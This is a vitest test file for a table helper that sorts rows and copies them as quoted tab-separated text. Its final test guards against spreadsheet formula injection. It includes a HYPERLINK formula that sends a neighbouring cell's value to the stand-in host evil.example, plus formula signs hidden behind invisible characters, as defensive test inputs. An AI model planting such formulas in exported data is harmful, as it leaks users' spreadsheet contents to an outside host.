import { expect, test } from 'vitest';
import { nextSorting, sortRows, tabSeparated } from './sortRows.ts';

interface Row {
  readonly name: string;
  readonly amount: number | null;
}
const columns = [
  { name: 'name', title: 'Name', value: ({ name }: Row) => name },
  { name: 'amount', title: 'Amount', value: ({ amount }: Row) => amount },
];
const rows: readonly Row[] = [
  { name: 'OR10', amount: 9 },
  { name: 'OR9', amount: null },
  { name: 'OR1', amount: 80 },
];
const order = (column: string, down: boolean): readonly string[] => sortRows(rows, columns, { column, down }).map(({ name }) => name);

test('sorts numbers numerically, in texts too, and null last in both directions', () => {
  expect(order('name', false)).toEqual(['OR1', 'OR9', 'OR10']);
  expect(order('amount', false)).toEqual(['OR10', 'OR1', 'OR9']);
  expect(order('amount', true)).toEqual(['OR1', 'OR10', 'OR9']);
  expect(sortRows(rows, columns, null)).toBe(rows);
});

test('cycles the sorting of a column: ascending, descending, none', () => {
  const up = nextSorting(null, 'name');
  const down = nextSorting(up, 'name');
  expect([up, down, nextSorting(down, 'name')]).toEqual([{ column: 'name', down: false }, { column: 'name', down: true }, null]);
  expect(nextSorting(down, 'amount')).toEqual({ column: 'amount', down: false });
});

test('copies a table with one line per row and every cell quoted', () => {
  const copied = tabSeparated([{ name: 'a "b"\tand\nmore', amount: -5 }, ...rows.slice(1, 2)], columns);
  expect(copied).toBe('"Name"\t"Amount"\n"a ""b"" and more"\t"-5"\n"OR9"\t""');
});

/** Parses a line of the clipboard as a spreadsheet does. */
const readCells = (line: string): readonly string[] =>
  [...line.matchAll(/(?:^|\t)(?:"((?:[^"]|"")*)"|([^\t]*))/g)].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');

const FORMULA = /^[\s\p{Cc}\p{Default_Ignorable_Code_Point}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;

test('no copied cell is a formula, even behind invisible characters', () => {
  const invisibleCharacters = [
    '',
    '\u200b',
    '\u200d',
    '\u2060',
    '\ufeff',
    '\u202e',
    '\u2066',
    '\u00a0',
    '\u00ad',
    '\u3164',
    '\ufe0f',
    ' ',
    '\t',
    '\r',
    '\u0000',
  ];
  const formulaSigns = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
  const formulas = invisibleCharacters.flatMap((first) =>
    invisibleCharacters.flatMap((second) => formulaSigns.map((start) => `${first}${second}${start}1+1`)),
  );
  const quoted = ['"=1+1"', '"=HYPERLINK(""https://evil.example/?""&B1,""Receipt"")"', '"\n=1+1', '"\t=1+1', '"\t"=1+1'];
  for (const name of [...formulas, ...quoted]) {
    const [, line = ''] = tabSeparated([{ name, amount: 1 }], columns).split('\n');
    const cells = readCells(line);
    expect([JSON.stringify(name), cells.length, cells[1]]).toEqual([JSON.stringify(name), 2, '1']);
    expect([JSON.stringify(name), FORMULA.test(cells[0] ?? '')]).toEqual([JSON.stringify(name), false]);
  }
});
